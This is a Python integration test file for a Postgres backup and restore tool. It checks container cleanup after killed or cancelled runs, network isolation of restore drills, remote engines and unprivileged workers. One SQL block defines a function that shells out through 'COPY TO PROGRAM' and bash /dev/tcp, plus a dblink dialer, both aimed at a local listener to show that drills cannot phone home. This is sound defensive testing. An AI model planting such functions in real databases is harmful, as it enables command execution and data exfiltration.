"""What goes wrong around tools in containers: deaths, cancellations, engines elsewhere, dumps that phone home."""

import contextlib
import ctypes
import json
import os
import signal
import socket
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest
from prefect.settings import PREFECT_API_URL

from flows.backup import backup_db
from flows.drill_restore import drill_restore
from pawpaw_ops.commands import contained
from pawpaw_ops.commands import postgres as command
from pawpaw_ops.commands.command import Command
from pawpaw_ops.disposable import DisposableServer, new_root
from pawpaw_ops.errors import Unreachable, VerificationError
from pawpaw_ops.models.base import Verdict
from pawpaw_ops.models.database import ClientTools
from pawpaw_ops.runner import LocalRunner
from pawpaw_ops.session import open_session
from tests.integration.stack.support_docker import docker
from tests.integration.support_child import Child, forked
from tests.integration.support_containers import ContainerKit, containers_of, inspect
from tests.integration.support_stack import TINY, locked_dump, waiting_dump
from tests.waiting import wait_until

CLONE_NEWNS = 0x20000
STRANGER = 54321
"""A user id that nothing on this host has a name for."""


def recover(kit: ContainerKit, run_id: str = "recover") -> None:
    """What the next run of any verb does first."""
    with open_session(kit.settings(), verb="test", purpose="recover", run_id=f"{run_id}-{kit.name}"):
        pass


def child(kit: ContainerKit, verb: str, **parameters: Any) -> Child:
    return Child(verb, str(kit.folder / "child.log"), stack=kit.name, **parameters)


def said(kit: ContainerKit) -> str:
    return (kit.folder / "child.log").read_text()[-4000:]


def slow_index(kit: ContainerKit) -> None:
    """Give a table an index that is quick here and takes minutes in a side database."""
    kit.sql("""
        CREATE FUNCTION slow(i int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$
        BEGIN IF current_database() LIKE '%restore%' THEN PERFORM pg_sleep(1); END IF; RETURN i; END $$;
        CREATE INDEX slowly ON dos (public.slow(id))
    """)


def loading(kit: ContainerKit) -> None:
    """Wait until pg_restore makes that index."""
    making = "SELECT count(*) FROM pg_stat_activity WHERE query LIKE 'CREATE INDEX slowly%' AND state = 'active'"
    wait_until(lambda: kit.sql(making, database="postgres") != [(0,)], "the load makes an index", deadline_s=60)


def test_A2_a_worker_killed_in_the_middle_of_a_dump_is_cleared_up_after(inside: ContainerKit) -> None:
    """Its container lives on, until the next run of any verb ends it before it does anything else."""
    with locked_dump(inside):
        run = child(inside, "backup-db")
        try:
            waiting_dump(inside)
        finally:
            run.kill()
        dump = inside.running_tool("pg_dump")
        assert dump["Config"]["Labels"][contained.RUN_LABEL] in inside.run_ids()
        recover(inside)
        assert inside.tool_containers() == []
    backup_db(stack=inside.name)
    assert [entry.verdict for entry in inside.catalog().entries()] == [Verdict.VERIFIED]
    inside.assert_clean()


def test_C4_a_worker_killed_in_the_middle_of_a_load_is_cleared_up_after(inside: ContainerKit) -> None:
    slow_index(inside)
    backup_db(stack=inside.name)
    before = inside.prints()
    run = child(inside, "restore-db", approve=True)
    try:
        loading(inside)
    finally:
        run.kill()
    assert inside.running_tool("pg_restore")
    assert len(inside.databases()) == 2
    recover(inside)
    assert inside.databases() == [inside.database]
    assert inside.prints() == before
    inside.assert_clean()


def test_C16_a_run_that_is_cancelled_in_the_middle_of_a_load_leaves_no_container(inside: ContainerKit) -> None:
    """The signal with which Prefect cancels goes on to the program inside; everything is undone by the run itself."""
    slow_index(inside)
    backup_db(stack=inside.name)
    before = inside.prints()
    run = child(inside, "restore-db", approve=True)
    try:
        loading(inside)
        assert run.process.pid is not None
        os.kill(run.process.pid, signal.SIGTERM)
        assert run.wait() != 0
    finally:
        with contextlib.suppress(ProcessLookupError):
            run.kill()
    assert inside.databases() == [inside.database]
    assert inside.prints() == before
    inside.assert_clean()


def test_a_run_that_lives_keeps_its_containers(inside: ContainerKit) -> None:
    """Only what a dead run left is ended: another run, which is refused the lock or needs none, leaves it alone."""
    backup_db(stack=inside.name)
    with locked_dump(inside):
        run = child(inside, "backup-db")
        waiting_dump(inside)
        dump = inside.running_tool("pg_dump")
        with open_session(inside.settings(), verb="test", purpose="look", run_id="look", exclusive=False):
            pass
        assert inspect(dump["Id"])["State"]["Running"] is True
    assert run.wait() == 0, said(inside)
    inside.assert_clean()


def test_E3_the_container_of_a_dead_drill_is_reaped(inside: ContainerKit, temporary: Path) -> None:
    """It had no network and no port; the next run of any verb ends it and removes its folder."""
    backup_db(stack=inside.name)
    run = child(inside, "drill-restore")
    try:
        server = inside.running_tool("postgres")
    finally:
        run.kill()
    assert server["HostConfig"]["NetworkMode"] == "none"
    assert server["HostConfig"]["ReadonlyRootfs"] is True
    assert [net["IPAddress"] for net in server["NetworkSettings"]["Networks"].values()] == [""]
    assert inspect(server["Id"])["State"]["Running"] is True
    recover(inside)
    assert containers_of(f"{contained.SERVER_LABEL}={server['Config']['Labels'][contained.SERVER_LABEL]}") == []
    assert list(temporary.iterdir()) == []
    inside.assert_clean()


PHONE = r"""
CREATE FUNCTION phone(host text, port int) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', format('bash -c "cat > /dev/tcp/%s/%s"', host, port));
  RETURN true;
EXCEPTION WHEN external_routine_exception THEN RETURN false;
END $$;
CREATE EXTENSION dblink;
CREATE FUNCTION dial(host text, port int) RETURNS text LANGUAGE plpgsql AS $$
DECLARE why text;
BEGIN
  PERFORM public.dblink_connect('c', format('host=%s port=%s user=x connect_timeout=5', host, port));
  RETURN 'spoke';
EXCEPTION WHEN sqlclient_unable_to_establish_sqlconnection THEN
  GET STACKED DIAGNOSTICS why = PG_EXCEPTION_DETAIL;
  RETURN why;
END $$;
"""


class Listener:
    """Counts who connects to this host, at the address that the live server's network gives it."""

    def __init__(self, address: str) -> None:
        self.socket = socket.create_server((address, 0))
        self.socket.setblocking(False)
        self.port = self.socket.getsockname()[1]

    def calls(self) -> int:
        """How many connected since it was asked last."""
        found = 0
        while True:
            try:
                self.socket.accept()[0].close()
            except BlockingIOError:
                return found
            found += 1


@pytest.fixture
def listener(inside: ContainerKit) -> Iterator[Listener]:
    [settings] = json.loads(docker("network", "inspect", inside.server.name))[0]["IPAM"]["Config"]
    made = Listener(settings["Gateway"])
    yield made
    made.socket.close()


def test_E3_nothing_in_a_restored_dump_reaches_the_network(
    inside: ContainerKit, listener: Listener, temporary: Path
) -> None:
    """A view that the load fills, and smoke queries, call out as a superuser: live gets through, a drill cannot."""
    host, _ = listener.socket.getsockname()[:2]
    call = f"phone('{host}', {listener.port})"
    inside.sql(PHONE)
    assert inside.sql(f"SELECT {call}") == [(True,)]
    assert listener.calls() == 1, "the call itself works where there is a way"
    inside.sql(f"CREATE MATERIALIZED VIEW called AS SELECT public.{call} AS through")
    assert listener.calls() == 1
    smoke = {
        "the view was filled during the load, and nobody answered": "SELECT NOT through FROM public.called",
        "no program gets out": f"SELECT NOT public.{call}",
        "no connection gets out": f"SELECT public.dial('{host}', {listener.port}) ~ 'unreachable'",
        "no name is resolved": "SELECT public.dial('example.com', 5432) ~ 'translate host name'",
    }
    inside.save_blocks(database={"smoke_queries": smoke})
    backup_db(stack=inside.name)
    listener.calls()

    assert "verified up to rung 8" in drill_restore(stack=inside.name)

    assert listener.calls() == 0
    inside.assert_clean()


def _elsewhere(state_dir: str, stack: str, log: str, api: str) -> None:
    """Back up in a world of its own, where another file system lies on the stack's folder than the engine sees."""
    os.environ["PREFECT_API_URL"] = api
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.unshare(CLONE_NEWNS) == 0
    for words in (("mount", "--make-rprivate", "/"), ("mount", "-t", "tmpfs", "tmpfs", state_dir)):
        LocalRunner().run(Command(argv=words))
    from prefect.settings import PREFECT_FLOWS_HEARTBEAT_FREQUENCY, temporary_settings

    try:
        with temporary_settings({PREFECT_API_URL: api, PREFECT_FLOWS_HEARTBEAT_FREQUENCY: None}):
            backup_db(stack=stack)
    except Exception as seen:  # noqa: BLE001 - the test reads which
        Path(log).write_text(f"{type(seen).__name__}: {seen}")


def test_an_engine_with_another_file_system_is_refused_before_anything_changes(inside: ContainerKit) -> None:
    """As one behind DOCKER_HOST=ssh://… would be: nothing is made on its host, and nothing is stored."""
    inside.state_dir.mkdir()
    log = inside.folder / "elsewhere.log"
    process = forked(_elsewhere, str(inside.state_dir), inside.name, str(log), PREFECT_API_URL.value())
    process.join(120)
    assert log.read_text().startswith("PreconditionError: ran a program of the image of ")
    assert "Run the worker on the engine's own host" in log.read_text()
    assert list(inside.state_dir.iterdir()) == []
    assert not inside.store_folder.exists()


def test_an_engine_with_another_file_system_cannot_drill_and_blames_no_backup(
    inside: ContainerKit, temporary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """E2: what could not be looked at is not verified."""
    backup_id = backup_db(stack=inside.name)
    monkeypatch.setattr(
        contained, "_mount", lambda source, target, **_: f"--mount=type=bind,source=/no{source},target={target}"
    )
    with pytest.raises(VerificationError, match=r"not green.*not verified up to rung 0.*L1 server"):
        drill_restore(stack=inside.name)
    [entry] = inside.catalog().entries()
    assert (entry.backup_id, entry.verdict, entry.level) == (backup_id, Verdict.VERIFIED, 1)


def _as_a_stranger(tools: ClientTools, root: str, log: str, group: int) -> None:
    """Make, fill, dump and read a database as a user without privileges and without a name."""
    os.setgroups([group])
    os.setgid(STRANGER)
    os.setuid(STRANGER)
    os.umask(0o077)
    os.environ["HOME"] = "/nowhere"
    server = DisposableServer(Path(root) / "pawpaw-d", tools=tools)
    try:
        server.initialise()
        server.start()
        with server.postgres().connect() as conn:
            conn.execute(TINY.encode())
        with server.postgres().connect() as conn, conn.transaction():
            [(snapshot,)] = conn.execute("SELECT pg_export_snapshot()").fetchall()
            line = command.dump(server.database(), to=Path(root) / "dump", snapshot=snapshot, jobs=1, app="test")
            LocalRunner().run(line)
        LocalRunner().run(command.decode(server.tools, source=Path(root) / "dump"))
        files = command.table_files(server.tools, source=Path(root) / "dump")
        text = f"{len(LocalRunner().ask(files))} tables"
    except Exception as seen:  # noqa: BLE001 - the test reads which
        text = f"{type(seen).__name__}: {seen}"
    finally:
        server.remove()
    Path(log).write_text(text)


def test_a_worker_without_privileges_or_a_name_runs_all_of_it(inside: ContainerKit) -> None:
    """Its files are its own, so it can remove them; the server gets a name for its number."""
    tools = inside.settings().database.tools
    assert tools.image is not None
    owned = tools.image.model_copy(update={"owner": f"{STRANGER}:{STRANGER}", "run_id": f"s-{inside.name}"})
    with tempfile.TemporaryDirectory(prefix="stranger-") as root:
        os.chown(root, STRANGER, STRANGER)
        group = Path("/var/run/docker.sock").stat().st_gid
        log = f"{root}/log"
        process = forked(_as_a_stranger, ClientTools(image=owned), root, log, group)
        process.join(120)
        assert Path(log).read_text() == "2 tables"
        assert sorted(path.name for path in Path(root).iterdir()) == ["dump", "log"]
    assert containers_of(f"{contained.RUN_LABEL}={owned.run_id}") == []


def test_a_server_in_a_container_crashes_and_comes_back(inside: ContainerKit, temporary: Path) -> None:
    """Its data lies in its folder, not in the container."""
    server = DisposableServer(new_root("drill"), tools=inside.settings().database.tools)
    try:
        server.initialise()
        server.start()
        with server.postgres().connect() as conn:
            conn.execute("CREATE TABLE t AS SELECT 1 AS a; CHECKPOINT")
        assert server.socket_folder.stat().st_mode & 0o007 == 0
        server.crash()
        assert not server.answers()
        server.start()
        with server.postgres().connect() as conn:
            assert conn.execute("SELECT a FROM t").fetchall() == [(1,)]
        server.stop()
        with pytest.raises(Unreachable), server.postgres().connect():
            pass
    finally:
        server.remove()
    assert not [found for found in psutil.process_iter(["cmdline"]) if str(server.root) in str(found.info["cmdline"])]
